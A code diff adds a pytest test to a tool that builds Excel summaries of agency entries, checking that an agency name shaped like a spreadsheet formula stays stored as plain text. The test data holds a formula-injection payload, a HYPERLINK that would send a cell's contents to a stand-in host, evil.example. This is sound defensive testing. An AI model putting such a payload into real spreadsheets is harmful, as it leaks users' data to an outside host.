@@ -363,3 +363,11 @@ def test_summary_text_from_samples(sample_entries):
     n_errors = sum(1 for e in sample_entries if e.state == "errors")
     assert f"纳入汇总 {len(sample_entries) - n_errors} 个机关" in text
     assert f"有错误 {n_errors} 个" in text
+
+
+def test_names_that_look_like_formulas_stay_text():
+    hostile = '=HYPERLINK("http://evil.example/?x="&B4,"点击查看")'
+    entries = [AgencyEntry(hostile, file_name=hostile + ".docx", tables=_tables(1, 0))]
+    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summarize(entries), 2024)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
